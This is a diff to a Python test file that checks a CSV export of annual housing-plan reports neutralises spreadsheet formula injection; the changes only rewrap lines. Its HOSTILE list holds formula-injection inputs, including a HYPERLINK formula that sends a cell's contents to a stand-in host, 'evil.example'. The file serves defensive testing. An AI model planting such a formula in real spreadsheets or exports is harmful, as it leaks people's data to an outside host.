@@ -14,23 +14,26 @@ from backend import report
 from backend.models import ActivityStatus, FinancingParty, IndicatorDirection
 
 # What a spreadsheet program would run: each first character that starts a formula.
-HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B1,"Se detaljer")', "+1+1", "-1+1", "@SUM(A1)",
-           "\t=1+1", "\r=1+1"]
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B1,"Se detaljer")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
 
 
 def _data(text: str) -> report.AnnualReportData:
     """A report whose every free text (plan, goal, indicator, unit, activity, milestone) is `text`."""
     data = report.AnnualReportData(plan_id=1, plan_name=text, year=2025)
-    data.financing.append(report.FinancingLine(1, FinancingParty.LANDSBYGGEFONDEN, Decimal("75"), Decimal("1"),
-                                               Decimal("0")))
-    data.indicators.append(report.IndicatorLine(1, 1, text, text, text, IndicatorDirection.DECREASE, -2.5, -3.0,
-                                                -2.75, date(2025, 6, 30)))
+    data.financing.append(
+        report.FinancingLine(1, FinancingParty.LANDSBYGGEFONDEN, Decimal("75"), Decimal("1"), Decimal("0"))
+    )
+    data.indicators.append(
+        report.IndicatorLine(1, 1, text, text, text, IndicatorDirection.DECREASE, -2.5, -3.0, -2.75, date(2025, 6, 30))
+    )
     data.activities.append(report.ActivityLine(1, text, ActivityStatus.ACTIVE, 2, 7))
     data.milestones_next_year.append(text)
     return data
 
 
-@pytest.mark.parametrize("dialect, delimiter, minus_two_and_a_half", [("excel-da", ";", "-2,5"), ("rfc4180", ",", "-2.5")])
+@pytest.mark.parametrize(
+    "dialect, delimiter, minus_two_and_a_half", [("excel-da", ";", "-2,5"), ("rfc4180", ",", "-2.5")]
+)
 @pytest.mark.parametrize("text", HOSTILE)
 def test_csv_neutralises_every_text_cell(text, dialect, delimiter, minus_two_and_a_half):
     raw = report.to_csv(_data(text), dialect=dialect).decode("utf-8-sig")
